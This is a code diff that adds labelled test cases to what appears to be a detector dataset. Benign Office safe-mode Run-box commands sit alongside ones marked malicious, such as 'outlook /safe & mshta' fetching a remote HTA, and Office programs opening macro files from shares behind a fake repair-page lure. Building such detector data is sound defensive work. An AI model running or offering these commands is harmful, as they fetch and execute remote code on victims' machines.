@@ -495,6 +495,33 @@ def ioc_writeups() -> list[dict[str, str]]:
     return out
 
 
+def office_run_box() -> list[dict[str, str]]:
+    """Office's own start-up switches in the Run box, as Microsoft's support pages give them,
+    and the same programs handed a file, a share, another switch or a second command."""
+    page = "https://support.microsoft.example/en-us/office/open-office-apps-in-safe-mode"
+    plain = ["excel /safe", "winword /safe", "WINWORD.EXE /a", "powerpnt /safe",
+             "outlook /safe", "outlook.exe /resetnavpane", "outlook /cleanviews",
+             "outlook /safe:1", "onenote /safeboot", "outlook /profiles"]  # fmt: skip
+    out = [
+        ok(f"dv-office-run-box-{n}", text, "office-run-box", "windows", page, "run_dialog")
+        for n, text in enumerate(plain, start=1)
+    ]
+    lure = "https://support-office-repair.example/fix"
+    more = [
+        "outlook /altvba \\\\files.example\\share\\a.otm",
+        "excel /safe \\\\files.example\\share\\report.xlsm",
+        "winword /safe https://files.example/doc.docm",
+        "excel /safe /e /x",
+        "outlook /safe & mshta https://files.example/a.hta",
+        "powerpnt /safe %TEMP%\\deck.pptm",
+    ]
+    out += [
+        case(f"dv-lure-office-run-box-{n}", text, "malicious", LURE, "windows", lure, "run_dialog")
+        for n, text in enumerate(more, start=1)
+    ]
+    return out
+
+
 def lures() -> list[dict[str, str]]:
     """What each clearing above must not reach."""
     out: list[dict[str, str]] = []
@@ -657,6 +684,7 @@ def build() -> list[dict[str, str]]:
         + devops()
         + console_snippets()
         + ioc_writeups()
+        + office_run_box()
         + lures()
     )
     ids = [c["id"] for c in cases]
